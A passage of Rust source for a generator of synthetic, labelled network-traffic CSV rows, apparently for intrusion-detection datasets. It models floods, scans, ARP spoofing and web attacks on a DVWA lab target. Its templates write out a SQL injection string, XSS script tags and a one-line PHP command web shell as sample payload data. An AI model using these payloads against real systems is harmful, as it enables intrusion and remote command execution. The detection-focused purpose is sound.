        tcp(p, f, cx, from_client, TCP_ACK, 0);
        p.options_ts(f.ts.wrapping_add(f.step * 7), f.ts.wrapping_add(f.step * 5));
    } else {
        cx.next_stream += 1;
        let name = cx.rng.random_range(0..DNS_NAMES.len());
        dns_query(p, cx, f.client, name, cx.next_stream, 0);
    }
}

/// Fills the TCP fields of one segment and advances the sender's sequence number.
fn tcp(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx, from_client: bool, flags: u16, len: u32) {
    let (src, dst, sp, dp, seq, ack, other_raw) = if from_client {
        (f.client, f.server, f.cport, f.sport, f.cseq, f.sseq, f.sraw)
    } else {
        (f.server, f.client, f.sport, f.cport, f.sseq, f.cseq, f.craw)
    };
    p.hosts(src, dst);
    p.num(Col::TcpSrcport, sp);
    p.num(Col::TcpDstport, dp);
    p.num(Col::TcpSeq, seq);
    if flags & TCP_ACK != 0 {
        p.num(Col::TcpAck, ack);
        p.num(Col::TcpAckRaw, other_raw.wrapping_add(ack));
        p.num(Col::TcpFlagsAck, 1u8);
    }
    p.word(Col::TcpFlags, flags);
    let checksum = cx.rng.random_range(1..=u16::MAX);
    p.word(Col::TcpChecksum, checksum);
    p.num(Col::TcpLen, len);
    let syn = flags & TCP_SYN != 0;
    if syn && flags & TCP_ACK == 0 {
        p.num(Col::TcpConnectionSyn, 1u8);
    }
    if syn && flags & TCP_ACK != 0 {
        p.num(Col::TcpConnectionSynack, 1u8);
    }
    if flags & TCP_FIN != 0 {
        p.num(Col::TcpConnectionFin, 1u8);
    }
    if flags & TCP_RST != 0 {
        p.num(Col::TcpConnectionRst, 1u8);
    }
    let advance = len + u32::from(syn) + u32::from(flags & TCP_FIN != 0);
    if from_client {
        f.cseq = f.cseq.wrapping_add(advance);
    } else {
        f.sseq = f.sseq.wrapping_add(advance);
    }
    if len > 0 {
        let seed = cx.rng.random();
        p.payload(len, seed);
    }
}

/// Handshake, body, FIN exchange; the body is the class-specific part.
fn session(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    let (s, n) = (f.step, f.len);
    let (ts_c, ts_s) = (f.ts.wrapping_add(s * 7), f.ts.wrapping_add(s * 5));
    if s == 0 {
        tcp(p, f, cx, true, TCP_SYN, 0);
        p.buf(Col::TcpOptions, |b| {
            b.extend_from_slice(b"020405b40402080a");
            push_hex_digits(b, ts_c, 8);
            b.extend_from_slice(b"0000000001030307");
        });
    } else if s == 1 {
        tcp(p, f, cx, false, TCP_SYN | TCP_ACK, 0);
        p.buf(Col::TcpOptions, |b| {
            b.extend_from_slice(b"020405b40402080a");
            push_hex_digits(b, ts_s, 8);
            push_hex_digits(b, ts_c, 8);
            b.extend_from_slice(b"01030307");
        });
    } else if s == 2 {
        tcp(p, f, cx, true, TCP_ACK, 0);
        p.options_ts(ts_c, ts_s);
    } else if s + 2 == n {
        tcp(p, f, cx, true, TCP_FIN | TCP_ACK, 0);
        p.options_ts(ts_c, ts_s);
    } else if s + 1 == n {
        tcp(p, f, cx, false, TCP_FIN | TCP_ACK, 0);
        p.options_ts(ts_s, ts_c);
    } else {
        session_body(p, f, cx, s - 3);
        if !matches!(p.f[Col::TcpOptions as usize], F::Buf(..)) {
            p.options_ts(ts_c, ts_s);
        }
    }
}

/// Body packet `i` (0-based) of a session.
fn session_body(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx, i: u32) {
    let rng = &mut cx.rng;
    match f.kind {
        Kind::HttpBrowse => match i % 3 {
            0 => {
                let (path, query) = pick(rng, &NORMAL_PAGES);
                let referer = rng.random_bool(0.4).then_some(REF_NORMAL);
                let len = rng.random_range(180..=420);
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "GET",
                        path,
                        query,
                        referer,
                        version: "HTTP/1.1",
                        len,
                    },
                );
            }
            1 => {
                let body = if rng.random_bool(0.5) {
                    Body::Json
                } else {
                    Body::Html
                };
                let (len, cl) = (rng.random_range(300..=1448), rng.random_range(120..=6000));
                response(p, f, cx, len, cl, body);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        Kind::HttpFlood => {
            if i.is_multiple_of(2) {
                let path = if rng.random_bool(0.7) {
                    "/"
                } else {
                    "/index.html"
                };
                let version = if rng.random_bool(0.5) {
                    "HTTP/1.1"
                } else {
                    "HTTP/1.0"
                };
                let len = rng.random_range(60..=160);
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "GET",
                        path,
                        query: None,
                        referer: None,
                        version,
                        len,
                    },
                );
            } else if rng.random_bool(0.5) {
                tcp(p, f, cx, false, TCP_ACK, 0);
            } else {
                let len = rng.random_range(200..=600);
                response(p, f, cx, len, 10_918, Body::Plain);
            }
        }
        Kind::SqlInjection => match i % 3 {
            0 => {
                let query = Some(pick(rng, &SQLI_QUERIES));
                let referer = rng.random_bool(0.5).then_some(REF_SQLI);
                let len = rng.random_range(420..=720);
                let path = "/dvwa/vulnerabilities/sqli/";
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "GET",
                        path,
                        query,
                        referer,
                        version: "HTTP/1.1",
                        len,
                    },
                );
            }
            1 => {
                let (len, cl) = (rng.random_range(1000..=1448), rng.random_range(1500..=3200));
                response(p, f, cx, len, cl, Body::SqlDump);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        Kind::Xss => match i % 3 {
            0 if rng.random_bool(0.5) => {
                let query = Some(pick(rng, &XSS_QUERIES));
                let referer = rng.random_bool(0.5).then_some(REF_XSS_R);
                let len = rng.random_range(700..=1000);
                let path = "/dvwa/vulnerabilities/xss_r/";
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "GET",
                        path,
                        query,
                        referer,
                        version: "HTTP/1.1",
                        len,
                    },
                );
            }
            0 => {
                let referer = rng.random_bool(0.5).then_some(REF_XSS_S);
                let (len, cl) = (rng.random_range(800..=1200), rng.random_range(60..=320));
                let path = "/dvwa/vulnerabilities/xss_s/";
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "POST",
                        path,
                        query: None,
                        referer,
                        version: "HTTP/1.1",
                        len,
                    },
                );
                post_body(p, cx, cl, Body::XssPost);
            }
            1 => {
                let (len, cl) = (
                    cx.rng.random_range(1000..=1448),
                    cx.rng.random_range(4000..=5200),
                );
                response(p, f, cx, len, cl, Body::XssEcho);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        Kind::Upload => match i % 4 {
            0 => {
                let referer = rng.random_bool(0.6).then_some(REF_UPLOAD);
                let (len, cl) = (
                    rng.random_range(600..=1448),
                    rng.random_range(2000..=60_000),
                );
                let path = "/dvwa/vulnerabilities/upload/";
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "POST",
                        path,
                        query: None,
                        referer,
                        version: "HTTP/1.1",
                        len,
                    },
                );
                post_body(p, cx, cl, Body::Multipart);
            }
            1 | 2 => tcp(p, f, cx, true, TCP_ACK, 1448),
            _ if rng.random_bool(0.5) => tcp(p, f, cx, false, TCP_ACK, 0),
            _ => {
                let (len, cl) = (rng.random_range(300..=1200), rng.random_range(4000..=4600));
                response(p, f, cx, len, cl, Body::Html);
            }
        },
        Kind::HttpBrute => match i % 3 {
            0 if rng.random_bool(0.5) => {
                let referer = rng.random_bool(0.5).then_some(REF_LOGIN);
                let (len, cl) = (rng.random_range(450..=650), rng.random_range(40..=95));
                let path = "/dvwa/login.php";
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "POST",
                        path,
                        query: None,
                        referer,
                        version: "HTTP/1.1",
                        len,
                    },
                );
                post_body(p, cx, cl, Body::Login);
            }
            0 => {
                let query = Some(pick(rng, &BRUTE_QUERIES));
                let len = rng.random_range(400..=560);
                let path = "/dvwa/vulnerabilities/brute/";
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method: "GET",
                        path,
                        query,
                        referer: None,
                        version: "HTTP/1.1",
                        len,
                    },
                );
            }
            1 => {
                let (len, cl) = (rng.random_range(300..=1448), rng.random_range(1400..=1600));
                response(p, f, cx, len, cl, Body::LoginFailed);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        Kind::VulnScan => {
            if i.is_multiple_of(2) {
                let method = pick(rng, &VULN_METHODS);
                let (path, query) = pick(rng, &VULN_PAGES);
                let version = if rng.random_bool(0.7) {
                    "HTTP/1.1"
                } else {
                    "HTTP/1.0"
                };
                let len = rng.random_range(120..=320);
                request(
                    p,
                    f,
                    cx,
                    Req {
                        method,
                        path,
                        query,
                        referer: None,
                        version,
                        len,
                    },
                );
            } else if rng.random_bool(0.8) {
                let (len, cl) = (rng.random_range(300..=520), rng.random_range(196..=290));
                response(p, f, cx, len, cl, Body::NotFound);
            } else {
                let (len, cl) = (rng.random_range(300..=1448), rng.random_range(120..=6000));
                response(p, f, cx, len, cl, Body::Html);
            }
        }
        Kind::MqttSensor => mqtt_sensor(p, f, cx, i),
        Kind::MqttBrute => match i % 3 {
            0 => {
                let len = rng.random_range(30..=80);
                tcp(p, f, cx, true, TCP_PSH | TCP_ACK, len);
                mqtt_connect(p, len - 2, 0xc2);
            }
            1 => mqtt_connack(p, f, cx),
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        Kind::ModbusPoll => match i % 3 {
            0 => {
                f.aux = f.aux.wrapping_add(1) & 0xffff;
                tcp(p, f, cx, true, TCP_PSH | TCP_ACK, 12);
                modbus(p, f, 6);
            }
            1 => {
                let regs = cx.rng.random_range(1..=10);
                tcp(p, f, cx, false, TCP_PSH | TCP_ACK, 9 + 2 * regs);
                modbus(p, f, 3 + 2 * regs);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        // A bind shell: short commands in, output of any size back.
        Kind::Backdoor => match i % 3 {
            0 => {
                let len = rng.random_range(1..=120);
                tcp(p, f, cx, true, TCP_PSH | TCP_ACK, len);
            }
            1 => {
                let len = rng.random_range(20..=1200);
                tcp(p, f, cx, false, TCP_PSH | TCP_ACK, len);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        // Payload delivery and exfiltration: big segments both ways.
        Kind::Ransomware => match i % 4 {
            0 => {
                let len = rng.random_range(700..=1448);
                tcp(p, f, cx, true, TCP_PSH | TCP_ACK, len);
            }
            1 => tcp(p, f, cx, false, TCP_ACK, 0),
            2 => {
                let len = rng.random_range(200..=1448);
                tcp(p, f, cx, false, TCP_PSH | TCP_ACK, len);
            }
            _ => tcp(p, f, cx, true, TCP_ACK, 0),
        },
        _ => unreachable!("not a session kind: {:?}", f.kind),
    }
}

/// An HTTP request line's worth of fields.
struct Req {
    method: &'static str,
    path: &'static str,
    /// In CSV form (quoted and escaped when it needs to be).
    query: Option<&'static str>,
    referer: Option<&'static str>,
    version: &'static str,
    len: u32,
}

fn request(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx, r: Req) {
    tcp(p, f, cx, true, TCP_PSH | TCP_ACK, r.len);
    p.set(Col::HttpRequestMethod, F::Str(r.method));
    p.set(Col::HttpRequestVersion, F::Str(r.version));
    if let Some(referer) = r.referer {
        p.set(Col::HttpReferer, F::Str(referer));
    }
    if let Some(q) = r.query {
        p.set(Col::HttpRequestUriQuery, F::Str(q));
    }
    let server = f.server;
    p.buf(Col::HttpRequestFullUri, |b| {
        // A quoted query makes the whole URI a quoted field; its inside is already escaped.
        let quoted = r.query.and_then(|q| q.strip_prefix('"')?.strip_suffix('"'));
        if quoted.is_some() {
            b.push(b'"');
        }
        b.extend_from_slice(b"http://");
        push_ip(b, server);
        b.extend_from_slice(r.path.as_bytes());
        if let Some(q) = quoted.or(r.query) {
            b.push(b'?');
            b.extend_from_slice(q.as_bytes());
        }
        if quoted.is_some() {
            b.push(b'"');
        }
    });
}

fn response(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx, len: u32, content_length: u32, body: Body) {
    tcp(p, f, cx, false, TCP_PSH | TCP_ACK, len);
    p.num(Col::HttpResponse, 1u8);
    p.num(Col::HttpContentLength, content_length);
    file_data(p, cx, body);
}

fn post_body(p: &mut Pkt, cx: &mut Ctx, content_length: u32, body: Body) {
    p.num(Col::HttpContentLength, content_length);
    file_data(p, cx, body);
}

/// `http.file_data` templates. Every one holds commas and doubled quotes, and a
/// line break: the two characters `\n`, or (rarely) a real newline inside the quotes.
#[derive(Debug, Clone, Copy)]
enum Body {
    Json,
    Html,
    Plain,
    SqlDump,
    XssPost,
    XssEcho,
    Multipart,
    Login,
    LoginFailed,
    NotFound,
}

fn file_data(p: &mut Pkt, cx: &mut Ctx, body: Body) {
    let rng = &mut cx.rng;
    let nl: &[u8] = if rng.random_ratio(1, NEWLINE_ONE_IN) {
        b"\n"
    } else {
        b"\\n"
    };
    let (a, b) = (rng.random_range(0..1000u64), rng.random_range(0..100u64));
    let name = pick(rng, &NAMES);
    let password = pick(rng, &PASSWORDS);
    p.buf(Col::HttpFileData, |o| {
        o.push(b'"');
        match body {
            Body::Json => {
                o.extend_from_slice(b"{\"\"device\"\":\"\"esp32-");
                push_u64(o, b);
                o.extend_from_slice(b"\"\", \"\"temp\"\":");
                push_u64(o, a / 10);
                o.push(b'.');
                push_u64(o, a % 10);
                o.extend_from_slice(b", \"\"hum\"\":");
                push_u64(o, b);
                o.extend_from_slice(b"}");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"{\"\"status\"\":\"\"ok\"\"}");
            }
            Body::Html => {
                o.extend_from_slice(b"<html><head><title>IoT Gateway</title></head>");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"<body class=\"\"dash\"\">Sensors: ");
                push_u64(o, b);
                o.extend_from_slice(b", online</body></html>");
            }
            Body::Plain => {
                o.extend_from_slice(b"<html><body><h1>It works!</h1>");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"<p>Default page, \"\"Apache2\"\"</p></body></html>");
            }
            Body::SqlDump => {
                o.extend_from_slice(b"<pre>ID: 1' OR '1'='1<br />First name: ");
                o.extend_from_slice(name.as_bytes());
                o.extend_from_slice(b"<br />Surname: ");
                o.extend_from_slice(name.as_bytes());
                o.extend_from_slice(b"</pre>");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"<div class=\"\"vulnerable_code_area\"\">, user_id ");
                push_u64(o, b);
                o.extend_from_slice(b"</div>");
            }
            Body::XssPost => {
                o.extend_from_slice(b"txtName=<script>alert(\"\"x");
                push_u64(o, b);
                o.extend_from_slice(b"\"\")</script>, mtxMessage=hi");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"btnSign=Sign+Guestbook");
            }
            Body::XssEcho => {
                o.extend_from_slice(b"<pre>Hello <script>alert(\"\"XSS\"\")</script></pre>");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"<div class=\"\"vulnerable_code_area\"\">, ");
                push_u64(o, a);
                o.extend_from_slice(b"</div>");
            }
            Body::Multipart => {
                o.extend_from_slice(b"------WebKitFormBoundary");
                push_hex_digits(o, (a * 7919 + b) as u32, 8);
                o.extend_from_slice(nl);
                o.extend_from_slice(
                    b"Content-Disposition: form-data; name=\"\"uploaded\"\"; filename=\"\"shell",
                );
                push_u64(o, b);
                o.extend_from_slice(b".php\"\"");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"<?php system($_GET[\"\"cmd\"\"]); ?>, // ");
                push_u64(o, a);
            }
            Body::Login => {
                o.extend_from_slice(b"username=admin, password=");
                o.extend_from_slice(password.as_bytes());
                o.extend_from_slice(b", Login=\"\"Login\"\"");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"user_token=");
                push_hex_digits(o, (a * 104_729 + b) as u32, 8);
            }
            Body::LoginFailed => {
                o.extend_from_slice(b"<div class=\"\"message\"\">Login failed</div>");
                o.extend_from_slice(nl);
                o.extend_from_slice(b"<input type=\"\"password\"\" name=\"\"password\"\">, attempt ");
                push_u64(o, a);
            }
            Body::NotFound => {
                o.extend_from_slice(b"<!DOCTYPE HTML PUBLIC \"\"-//IETF//DTD HTML 2.0//EN\"\">");
                o.extend_from_slice(nl);
                o.extend_from_slice(
                    b"<html><head><title>404 Not Found</title></head>, <body><h1>Not Found</h1></body></html>",
                );
            }
        }
        o.push(b'"');
    });
}

/// MQTT sensor: CONNECT, CONNACK, then PUBLISH / broker ACK pairs with pings.
fn mqtt_sensor(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx, i: u32) {
    match i {
        0 => {
            let len = cx.rng.random_range(14..=22);
            tcp(p, f, cx, true, TCP_PSH | TCP_ACK, len);
            mqtt_connect(p, len - 2, 0x02);
        }
        1 => mqtt_connack(p, f, cx),
        _ if i.is_multiple_of(2) && cx.rng.random_bool(0.1) => {
            tcp(p, f, cx, true, TCP_PSH | TCP_ACK, 2);
            mqtt_header(p, 12, 0xc0, 0);
        }
        _ if i.is_multiple_of(2) => {
            let topic = TOPICS[f.var as usize];
            let json = cx.rng.random_bool(0.5);
            let (x, id) = (
                cx.rng.random_range(0..1000u64),
                cx.rng.random_range(1..=64u64),
            );
            let start = p.scratch.len();
            p.buf(Col::MqttMsg, |b| {
                if json {
                    b.extend_from_slice(b"\"{\"\"id\"\":");
                    push_u64(b, id);
                    b.extend_from_slice(b", \"\"value\"\":");
                    push_u64(b, x / 10);
                    b.push(b'.');
                    push_u64(b, x % 10);
                    b.extend_from_slice(b", \"\"unit\"\":\"\"C\"\"}\"");
                } else {
                    push_u64(b, x / 10);
                    b.push(b'.');
                    push_u64(b, x % 10);
                }
            });
            let msg_len = (p.scratch.len() - start) as u32;
            let mqtt_len = 2 + topic.len() as u32 + msg_len;
            tcp(p, f, cx, true, TCP_PSH | TCP_ACK, mqtt_len + 2);
            let qos1 = cx.rng.random_bool(0.3);
            mqtt_header(p, 3, if qos1 { 0x32 } else { 0x30 }, mqtt_len);
            p.set(Col::MqttTopic, F::Str(topic));
            p.num(Col::MqttTopicLen, topic.len() as u64);
        }
        _ if cx.rng.random_bool(0.1) => {
            tcp(p, f, cx, false, TCP_PSH | TCP_ACK, 2);
            mqtt_header(p, 13, 0xd0, 0);
        }
        _ => tcp(p, f, cx, false, TCP_ACK, 0),
    }
}

fn mqtt_header(p: &mut Pkt, msgtype: u8, hdrflags: u8, len: u32) {
    p.num(Col::MqttMsgtype, msgtype);
    p.set(Col::MqttHdrflags, F::Hex(u32::from(hdrflags), 8));
    p.num(Col::MqttLen, len);
}

fn mqtt_connect(p: &mut Pkt, len: u32, conflags: u8) {
    mqtt_header(p, 1, 0x10, len);
    p.set(Col::MqttConflags, F::Hex(u32::from(conflags), 8));
    p.num(Col::MqttConflagCleansess, 1u8);
    p.set(Col::MqttProtoname, F::Str("MQTT"));
    p.num(Col::MqttProtoLen, 4u8);
    p.num(Col::MqttVer, 4u8);
}

fn mqtt_connack(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    tcp(p, f, cx, false, TCP_PSH | TCP_ACK, 4);
    mqtt_header(p, 2, 0x20, 2);
    p.set(Col::MqttConackFlags, F::Hex(0, 8));
}

fn modbus(p: &mut Pkt, f: &Flow, len: u32) {
    p.num(Col::MbtcpLen, len);
    p.num(Col::MbtcpTransId, f.aux);
    p.num(Col::MbtcpUnitId, f.var);
}

/// One DNS query from `src` to the gateway.
fn dns_query(p: &mut Pkt, cx: &mut Ctx, src: Ip, name: usize, stream: u64, delta_us: u64) {
    p.hosts(src, GATEWAY);
    p.num(Col::UdpPort, 53u16);
    p.num(Col::UdpStream, stream);
    p.set(
        Col::UdpTimeDelta,
        if delta_us == 0 {
            F::Absent
        } else {
            F::Micros(delta_us)
        },
    );
    let name = DNS_NAMES[name];
    p.set(Col::DnsQryName, F::Str(name));
    p.num(Col::DnsQryNameLen, name.len() as u64);
    p.num(
        Col::DnsQryType,
        if cx.rng.random_bool(0.7) { 1u8 } else { 28 },
    );
}

/// A device resolving one name: A and AAAA queries, some retransmitted.
fn dns_lookup(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    let delta = if f.step == 0 {
        0
    } else {
        cx.rng.random_range(150..=1_500_000)
    };
    dns_query(p, cx, f.client, f.var as usize, f.udp_stream, delta);
    if f.step > 0 && cx.rng.random_bool(0.15) {
        p.num(Col::DnsRetransmission, 1u8);
        p.num(Col::DnsRetransmitRequest, 1u8);
        let back = cx
            .rng
            .random_range(1..=40)
            .min(cx.frame.saturating_sub(1))
            .max(1);
        p.num(Col::DnsRetransmitRequestIn, cx.frame - back);
    }
}

/// Echo requests (and for pings, replies). `icmp.seq_le` is the sequence number
/// read little-endian, as tshark's field is.
fn icmp_echo(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    let reply = match f.kind {
        Kind::Ping => f.step % 2 == 1,
        _ => cx.rng.random_bool(0.08),
    };
    if reply {
        p.hosts(f.server, f.client);
    } else {
        p.hosts(f.client, f.server);
        f.aux = f.aux.wrapping_add(1) & 0xffff;
    }
    let checksum = cx.rng.random_range(1..=u16::MAX);
    p.word(Col::IcmpChecksum, checksum);
    p.num(Col::IcmpSeqLe, (f.aux as u16).swap_bytes());
}

fn udp_flood(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    p.hosts(f.client, f.server);
    p.num(Col::UdpPort, f.sport);
    p.num(Col::UdpStream, f.udp_stream);
    p.set(Col::UdpTimeDelta, F::Micros(cx.rng.random_range(1..=60)));
}

/// SYN flood from one bot port: SYNs (sequence number reset each time, raw ACK
/// field random as hping3 leaves it), some SYN/ACKs back, some RSTs.
fn syn_flood(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    let r = cx.rng.random_range(0..100);
    if r < 25 {
        f.sseq = 0;
        tcp(p, f, cx, false, TCP_SYN | TCP_ACK, 0);
    } else if r < 33 {
        tcp(p, f, cx, true, TCP_RST, 0);
    } else {
        f.cseq = 0;
        tcp(p, f, cx, true, TCP_SYN, f.var);
        if cx.rng.random_bool(0.7) {
            let raw = cx.rng.random::<u32>();
            p.num(Col::TcpAckRaw, raw);
        }
    }
}

/// nmap SYN scan: SYN to a new port, then RST/ACK (closed) or SYN/ACK (open).
fn port_scan(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    if f.step.is_multiple_of(2) {
        // The well-known ports first (from a per-flow offset), then random ones.
        let pos = f.aux as usize % SCAN_PORTS.len() + f.step as usize / 2;
        f.sport = match SCAN_PORTS.get(pos) {
            Some(&port) => port,
            None => cx.rng.random_range(1..=65535),
        };
        (f.cseq, f.sseq) = (0, 0);
        tcp(p, f, cx, true, TCP_SYN, 0);
        p.options("020405b4");
    } else if cx.rng.random_bool(0.85) {
        tcp(p, f, cx, false, TCP_RST | TCP_ACK, 0);
    } else {
        tcp(p, f, cx, false, TCP_SYN | TCP_ACK, 0);
        p.options("020405b4");
    }
}

/// nmap OS detection: SYNs with odd options, ECN, NULL, FIN/PSH/URG and ACK
/// probes, the target's answers, and ICMP echo / timestamp probes.
fn os_probe(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    const WEIGHTS: [u32; 9] = [3, 2, 1, 1, 1, 2, 1, 1, 1];
    let mut r = cx.rng.random_range(0..WEIGHTS.iter().sum::<u32>());
    let mut probe = 0;
    while r >= WEIGHTS[probe] {
        r -= WEIGHTS[probe];
        probe += 1;
    }
    let odd_options = pick(&mut cx.rng, &OS_PROBE_OPTIONS);
    match probe {
        0 | 1 => {
            f.cseq = 0;
            let flags = if probe == 0 {
                TCP_SYN
            } else {
                TCP_SYN | TCP_ECE | TCP_CWR
            };
            tcp(p, f, cx, true, flags, 0);
            p.options(odd_options);
            let raw = cx.rng.random::<u32>();
            p.num(Col::TcpAckRaw, raw);
        }
        2 => tcp(p, f, cx, true, 0, 0),
        3 => {
            tcp(p, f, cx, true, TCP_FIN | TCP_PSH | TCP_URG, 0);
            p.options(odd_options);
        }
        4 => tcp(p, f, cx, true, TCP_ACK, 0),
        5 => tcp(p, f, cx, false, TCP_RST, 0),
        6 => tcp(p, f, cx, false, TCP_SYN | TCP_ACK, 0),
        7 => {
            p.hosts(f.client, f.server);
            let checksum = cx.rng.random_range(1..=u16::MAX);
            p.word(Col::IcmpChecksum, checksum);
            p.num(Col::IcmpSeqLe, 295u16.swap_bytes());
        }
        _ => {
            p.hosts(f.client, f.server);
            let checksum = cx.rng.random_range(1..=u16::MAX);
            p.word(Col::IcmpChecksum, checksum);
            let ms = cx.rng.random_range(1..86_400_000u32);
            p.num(Col::IcmpTransmitTimestamp, ms);
        }
    }
}

/// ARP spoofing: replies (mostly) and requests claiming `client`'s address.
fn arp_spoof(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    p.num(
        Col::ArpOpcode,
        if cx.rng.random_bool(0.75) { 2u8 } else { 1 },
    );
    p.num(Col::ArpHwSize, 6u8);
    p.set(Col::ArpSrcProtoIpv4, F::Ip(f.client));
    p.set(Col::ArpDstProtoIpv4, F::Ip(f.server));
}

/// The real file's MITM rows whose mDNS fields slid into the wrong columns.
fn mdns_shifted(p: &mut Pkt, f: &mut Flow, cx: &mut Ctx) {
    p.set(
        Col::FrameTime,
        F::Str(if cx.rng.random_bool(0.5) {
            "0.0"
        } else {
            "6.0"
        }),
    );
    p.set(Col::IpSrcHost, F::Ip(f.client));
    p.set(Col::IpDstHost, F::Str("0.0"));
    p.set(Col::TcpSrcport, F::Str("_ipps._tcp.local"));
    p.set(Col::UdpPort, F::Str("_ipp._tcp.local"));
    p.set(Col::TcpLen, F::Str("5353.0"));
    p.set(Col::TcpOptions, F::Str("5353.0"));
    p.set(Col::UdpStream, F::Str("16.0"));
}

// ---------------------------------------------------------------------------
// The generator
// ---------------------------------------------------------------------------

#[derive(Debug)]
struct Gen {
    cx: Ctx,
    pkt: Pkt,
    flows: Vec<Flow>,
    /// Rows still owed per class, and rows written per class.
    remaining: [u64; NCLASSES],
    counts: [u64; NCLASSES],
    mean_len: [f64; NCLASSES],
    clock_us: u64,
    /// The row last written (no line terminator), and its class.
    row: Vec<u8>,
    last_class: Option<Class>,
    rows: u64,
    /// Row index that gets the guaranteed giant payload (first TCP row from there on).
    giant_at: Option<u64>,
    giant_pending: bool,
    giant_written: bool,
}

impl Gen {
    fn new(opts: &SynthOptions) -> Self {
        let mut rng = ChaCha8Rng::seed_from_u64(opts.seed);
        let giant_at = (opts.rows >= GIANT_MIN_ROWS)
            .then(|| rng.random_range(0..opts.rows.saturating_sub(opts.rows / 50).max(1)));
        let mut g = Gen {
            cx: Ctx {
                rng,
                next_stream: 0,
                frame: 0,
            },
            pkt: Pkt::new(),
            flows: Vec::with_capacity(POOL),
            remaining: quotas(opts.rows, opts.balanced),
            counts: [0; NCLASSES],
            mean_len: std::array::from_fn(|i| CLASSES[i].0.mean_flow_len()),
            clock_us: CLOCK_START_US,
            row: Vec::with_capacity(16 << 10),
            last_class: None,
            rows: opts.rows,
            giant_at,
            giant_pending: false,
            giant_written: false,
        };
        if opts.rows > 0 {
            for _ in 0..POOL {
                let f = g.spawn();
                g.flows.push(f);
            }
        }
        g
    }

    /// A new flow of a class drawn by remaining quota / mean flow length: each
    /// class then emits rows at a rate proportional to what it still owes.
    /// Needs some quota left.
    fn spawn(&mut self) -> Flow {
        let w: [f64; NCLASSES] =
            std::array::from_fn(|i| self.remaining[i] as f64 / self.mean_len[i]);
        let total: f64 = w.iter().sum();
        let mut r = self.cx.rng.random::<f64>() * total;
        let mut class = None;
        for (i, &wi) in w.iter().enumerate() {
            if wi > 0.0 {
                class = Some(i);
                if r < wi {
                    break;
                }
                r -= wi;
            }
        }
        let class = CLASSES[class.expect("spawn needs remaining quota")].0;
        new_flow(&mut self.cx.rng, class, &mut self.cx.next_stream)
    }

    /// Builds row `index` into `self.row` and returns its class.
    fn next_row(&mut self, index: u64) -> Class {
        self.cx.frame = index + 1;
        if let Some(c) = self.last_class
            && self.remaining[c as usize] > 0
            && self.cx.rng.random_bool(DUPLICATE)
        {
            return c; // `self.row` still holds the previous row: written again verbatim.
        }

        let fi = self.cx.rng.random_range(0..self.flows.len());
        if self.flows[fi].done() || self.remaining[self.flows[fi].class as usize] == 0 {
            self.flows[fi] = self.spawn();
        }
        let mut f = self.flows[fi];
        self.clock_us += self.cx.rng.random_range(1..=300);
        let hex = self.cx.rng.random_bool(HEX_ROWS);
        self.pkt.reset(hex);
        self.pkt.set(Col::FrameTime, F::Time(self.clock_us));
        build(&mut self.pkt, &mut f, &mut self.cx);
        self.flows[fi] = f;

        self.maybe_giant(index);
        self.label(f.class);
        self.row.clear();
        self.pkt
            .render(&mut self.row, f.class == Class::Normal, &mut self.cx.rng);
        f.class
    }

    /// Rarely (and once for sure in big files) a 200,000+ character `tcp.payload`,
    /// on the first TCP row at or after the chosen index.
    fn maybe_giant(&mut self, index: u64) {
        if self.giant_at == Some(index) || self.cx.rng.random_ratio(1, GIANT_ONE_IN) {
            self.giant_pending = true;
        }
        let last_chance = index + 1 == self.rows && self.giant_at.is_some() && !self.giant_written;
        if (self.giant_pending && self.pkt.is_tcp()) || last_chance {
            let n = self.cx.rng.random_range(100_000..=125_000u32);
            let seed = self.cx.rng.random();
            self.pkt.num(Col::TcpLen, n);
            self.pkt.payload(n, seed);
            self.giant_pending = false;
            self.giant_written = true;
        }
    }

    fn label(&mut self, class: Class) {
        let p = &mut self.pkt;
        p.set(Col::AttackLabel, F::Int(u64::from(class != Class::Normal)));
        let name = if class == Class::Fingerprinting && self.cx.rng.random_bool(0.5) {
            "OS_Fingerprinting"
        } else {
            class.name()
        };
        if self.cx.rng.random_ratio(1, PADDED_LABEL_ONE_IN) {
            let (lead, trail) = match self.cx.rng.random_range(0..3) {
                0 => (" ", ""),
                1 => ("", " "),
                _ => (" ", "  "),
            };
            p.buf(Col::AttackType, |b| {
                b.extend_from_slice(lead.as_bytes());
                b.extend_from_slice(name.as_bytes());
                b.extend_from_slice(trail.as_bytes());
            });
        } else {
            p.set(Col::AttackType, F::Str(name));
        }
    }
}

// ---------------------------------------------------------------------------
